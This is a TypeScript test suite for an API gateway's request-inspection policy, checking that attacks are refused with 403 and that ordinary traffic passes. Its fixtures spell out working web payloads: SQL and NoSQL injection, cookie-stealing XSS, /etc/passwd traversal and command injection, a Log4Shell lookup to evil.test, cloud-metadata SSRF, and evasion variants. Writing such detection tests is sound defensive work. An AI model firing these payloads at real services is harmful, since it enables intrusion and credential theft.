// Through a real gateway: attacks in every placement are refused before the upstream sees them,
// ordinary traffic passes untouched, exclusions and report mode behave.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { passthroughYaml, startTestGateway, type TestGateway } from '../../../test/helpers/gateway.ts';
import { startUpstream, type TestUpstream } from '../../../test/helpers/upstream.ts';

describe('inspect policy', () => {
  let upstream: TestUpstream;
  let gw: TestGateway;
  let reportGw: TestGateway;
  let allowGw: TestGateway;

  before(async () => {
    upstream = await startUpstream();
    const policies = (extra: string) => `policies:\n  inspect:\n${extra}    exclusions:\n      - { name: sql, location: query, allow: [sqli] }\n`;
    gw = await startTestGateway(passthroughYaml(upstream.url).replace('apis:', `${policies('')}apis:`));
    reportGw = await startTestGateway(passthroughYaml(upstream.url).replace('apis:', `${policies('    mode: report\n')}apis:`));
    allowGw = await startTestGateway(passthroughYaml(upstream.url).replace('apis:', `${policies('    onTruncated: allow\n')}apis:`));
  });
  after(async () => {
    await gw.close();
    await reportGw.close();
    await allowGw.close();
    await upstream.close();
  });

  const attacks: [string, string, RequestInit?][] = [
    ['sqli in query', `/search?q=${encodeURIComponent("1' OR '1'='1' --")}`],
    ['xss in query', `/search?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`],
    ['path traversal', `/files?name=${encodeURIComponent('../../../../etc/passwd')}`],
    ['command injection in JSON', '/run', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ host: '8.8.8.8; cat /etc/passwd' }) }],
    ['log4shell in a header', '/x', { headers: { 'user-agent': '${jndi:ldap://evil.test/a}' } }],
    ['nosql operator key', '/login', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"user":"admin","password":{"$ne":null}}' }],
    ['ssrf to metadata', `/fetch?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`],
  ];

  for (const [name, path, init] of attacks) {
    test(`refuses ${name} before it reaches the upstream`, async () => {
      const before = upstream.received.length;
      const res = await fetch(`${gw.url}${path}`, init);
      assert.equal(res.status, 403);
      const body = (await res.json()) as { code: string };
      assert.equal(body.code, 'PCL_ERR_ATTACK_DETECTED');
      assert.ok(!JSON.stringify(body).includes('passwd') && !JSON.stringify(body).includes('script'));
      assert.equal(upstream.received.length, before);
    });
  }

  test('ordinary traffic passes, bodies byte for byte', async () => {
    for (const q of ["O'Brien", 'select a size: small or large', 'tom & jerry <3', 'café ☕', 'user@example.com']) {
      assert.equal((await fetch(`${gw.url}/search?q=${encodeURIComponent(q)}`)).status, 200, q);
    }
    const body = JSON.stringify({ note: 'Use SELECT sparingly; see https://example.com/docs?a=1&b=2', tags: ['a', 'b'], n: 3 });
    const res = await fetch(`${gw.url}/notes`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    assert.equal(res.status, 200);
    assert.equal(upstream.received.at(-1)!.body.toString(), body);
  });

  test('markdown with inline code passes', async () => {
    const body = JSON.stringify({ note: 'Use `SELECT` sparingly, or run `npm test`.' });
    const res = await fetch(`${gw.url}/notes`, { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    assert.equal(res.status, 200);
  });

  test('an exclusion lets a field hold what would otherwise be refused', async () => {
    const sql = encodeURIComponent("SELECT name FROM users WHERE id = '1' OR '1'='1'");
    assert.equal((await fetch(`${gw.url}/admin/query?sql=${sql}`)).status, 200);
    assert.equal((await fetch(`${gw.url}/admin/query?other=${sql}`)).status, 403);
  });

  const attack = "' OR 1=1-- <script>alert(1)</script>";
  const long = 'A'.repeat(131073) + attack;
  const post = (url: string, contentType: string, body: string) => fetch(url, { method: 'POST', headers: { 'content-type': contentType }, body });

  test('a request not inspected whole is refused (413), not passed half-inspected', async () => {
    const pairs = Array.from({ length: 1000 }, (_, i) => `p${i}=v`).join('&');
    const cases: [string, string, string][] = [
      ['JSON value over 128 KiB', 'application/json', JSON.stringify({ q: long })],
      ['form value over 128 KiB', 'application/x-www-form-urlencoded', `q=${encodeURIComponent(long)}`],
      ['text body over 128 KiB', 'text/plain', long],
      ['form pair past the 1,000th', 'application/x-www-form-urlencoded', `${pairs}&q=${encodeURIComponent(attack)}`],
      ['JSON item past the 10,000th', 'application/json', JSON.stringify([...Array(10000).fill(1), attack])],
      ['XML node past the 4,000th', 'application/xml', `<r>${'<a>v</a>'.repeat(2000)}<q>${attack}</q></r>`],
    ];
    for (const [name, ct, body] of cases) {
      const before = upstream.received.length;
      const res = await post(`${gw.url}/up`, ct, body);
      assert.equal(res.status, 413, name);
      assert.equal(((await res.json()) as { code: string }).code, 'PCL_ERR_UNINSPECTABLE', name);
      assert.equal(upstream.received.length, before, name);
    }
    // Large but under every limit: passes.
    const ok = await post(`${gw.url}/up`, 'application/json', JSON.stringify({ note: 'n'.repeat(131072), list: Array(9000).fill(1) }));
    assert.equal(ok.status, 200);
    assert.equal((await post(`${gw.url}/up`, 'application/x-www-form-urlencoded', pairs)).status, 200);
  });

  test('onTruncated: allow lets a request not inspected whole through', async () => {
    const res = await post(`${allowGw.url}/up`, 'text/plain', long);
    assert.equal(res.status, 200);
    // What is inspected still counts.
    assert.equal((await post(`${allowGw.url}/up`, 'text/plain', attack)).status, 403);
  });

  test('multipart: a fake part inside a field value, and a JSON file part, are inspected', async () => {
    const fake = `--XyZ\r\nContent-Disposition: form-data; name="q"\r\n\r\nhi --XyZ\r\nContent-Disposition: form-data; name="f"; filename="x.png"\r\nContent-Type: image/png\r\n\r\n${attack}\r\n--XyZ--\r\n`;
    const json = `--XyZ\r\nContent-Disposition: form-data; name="d"; filename="d.json"\r\nContent-Type: application/json\r\n\r\n{"q":"1' OR 1=1--"}\r\n--XyZ--\r\n`;
    for (const body of [fake, json]) assert.equal((await post(`${gw.url}/up`, 'multipart/form-data; boundary=XyZ', body)).status, 403, body);
    const fine = `--XyZ\r\nContent-Disposition: form-data; name="q"\r\n\r\nhello\r\n--XyZ\r\nContent-Disposition: form-data; name="d"; filename="d.json"\r\nContent-Type: application/json\r\n\r\n{"q":"fine"}\r\n--XyZ--\r\n`;
    assert.equal((await post(`${gw.url}/up`, 'multipart/form-data; boundary=XyZ', fine)).status, 200);
  });

  test('XML text split by CDATA or a comment is inspected joined', async () => {
    for (const body of ["<r><q>1' OR <![CDATA[1=1--]]></q></r>", '<r><q>${jn<!---->di:ldap://x/a}</q></r>']) {
      assert.equal((await post(`${gw.url}/up`, 'application/xml', body)).status, 403, body);
    }
  });

  test('report mode lets the attack through', async () => {
    const res = await fetch(`${reportGw.url}/search?q=${encodeURIComponent("1' OR '1'='1' --")}`);
    assert.equal(res.status, 200);
  });
});
